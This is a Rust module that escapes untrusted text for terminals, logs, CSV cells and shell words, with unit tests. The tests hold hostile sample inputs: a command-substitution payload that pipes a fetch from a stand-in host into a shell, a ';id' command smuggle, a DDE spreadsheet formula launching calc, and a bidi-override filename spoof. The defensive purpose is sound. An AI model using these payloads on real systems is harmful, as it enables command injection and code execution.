//! What of a stranger's text may stand in one line, and how it is shown.

/// The longest message about a document; the name that it quotes may be as long as the document.
const MAX_MESSAGE: usize = 400;

/// Whether a text can stand in one line of a configuration file or a terminal: no control characters, no line
/// separators, none of the marks that reorder what stands around them.
pub(crate) fn one_line(text: &str) -> bool {
    !text.chars().any(breaks_out)
}

fn breaks_out(c: char) -> bool {
    c.is_control() || matches!(c, '\u{2028}' | '\u{2029}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
}

/// Text from elsewhere with everything escaped that a terminal could take for an order, or that could make it read
/// differently from what it is.
pub fn escape(text: &str) -> String {
    let mut escaped = String::with_capacity(text.len());
    for c in text.chars() {
        if is_misleading(c) {
            escaped.extend(c.escape_default());
        } else {
            escaped.push(c);
        }
    }
    escaped
}

/// Whether a character moves a terminal's cursor, reorders what stands around it or can't be seen.
pub fn is_misleading(c: char) -> bool {
    c.is_control()
        || matches!(c, '\u{61c}' | '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{2069}' | '\u{feff}')
}

/// A text as the cell of a table that a spreadsheet opens: no formula, and nothing that reads differently from what it is.
pub fn csv_cell(text: &str) -> String {
    let shown = escape(text);
    // Spreadsheets pass over blanks before a formula, and take the full-width signs for the plain ones.
    let begins = shown.trim_start().starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠']);
    if begins { format!("'{shown}") } else { shown }
}

/// A text as a POSIX shell takes it for one word, for commands that somebody copies: nothing in it is run or split.
pub fn shell_word(text: &str) -> String {
    let shown = escape(text);
    let plain = |b: u8| b.is_ascii_alphanumeric() || b"_.,:/@%+=-".contains(&b);
    if !shown.is_empty() && shown.bytes().all(plain) {
        return shown;
    }
    format!("'{}'", shown.replace('\'', r"'\''"))
}

/// A text with no more than so many characters, which says how many it had.
pub(crate) fn cut(text: &str, most: usize) -> String {
    match text.char_indices().nth(most) {
        None => text.to_owned(),
        Some((end, _)) => format!("{}... ({} characters)", &text[..end], text.chars().count()),
    }
}

/// A message that may quote a hostile name, fit to be shown in a terminal or a log: escaped, and cut in the middle
/// when it is long.
pub(crate) fn printable(message: &str) -> String {
    let mut shown = String::with_capacity(message.len().min(MAX_MESSAGE));
    let count = message.chars().count();
    for (index, c) in message.chars().enumerate() {
        if count > MAX_MESSAGE && (MAX_MESSAGE / 2..count - MAX_MESSAGE / 2).contains(&index) {
            if index == MAX_MESSAGE / 2 {
                shown.push_str(" ... ");
            }
        } else if breaks_out(c) {
            shown.extend(c.escape_default());
        } else {
            shown.push(c);
        }
    }
    shown
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_word_of_a_command_is_one_word_and_runs_nothing_whatever_stands_in_it() {
        for plain in ["PF3XK9", "lap-ada", "label:laptop", "base@3", "4c4c4544-0042-3510-8052-b4c04f4e3233"] {
            assert_eq!(shell_word(plain), plain);
        }
        assert_eq!(shell_word("X$(curl evil|sh)"), "'X$(curl evil|sh)'");
        assert_eq!(shell_word("VMware-56 4d"), "'VMware-56 4d'");
        assert_eq!(shell_word("it's;id"), r"'it'\''s;id'");
        assert_eq!(shell_word("a\nid"), r"'a\nid'", "a line break is written out");
        assert_eq!(shell_word("#1"), "'#1'");
        assert_eq!(shell_word(""), "''");
    }

    #[test]
    fn a_cell_gives_a_spreadsheet_no_orders_and_reads_as_what_it_is() {
        assert_eq!(csv_cell("=cmd|' /C calc'!A0"), "'=cmd|' /C calc'!A0");
        for formula in ["+1", "-1", "@SUM(A1)", " =1", "\u{3000}=1", "＝1"] {
            assert!(csv_cell(formula).starts_with('\''), "{formula:?}");
        }
        assert_eq!(csv_cell("\t=1"), "\\t=1", "an escaped tab begins no formula");
        assert_eq!(csv_cell("lap-ada"), "lap-ada");
        assert_eq!(csv_cell("a\u{202e}fdp.exe\u{200b}\n"), "a\\u{202e}fdp.exe\\u{200b}\\n");
        assert_eq!(csv_cell("Zoë 東京"), "Zoë 東京");
    }
}
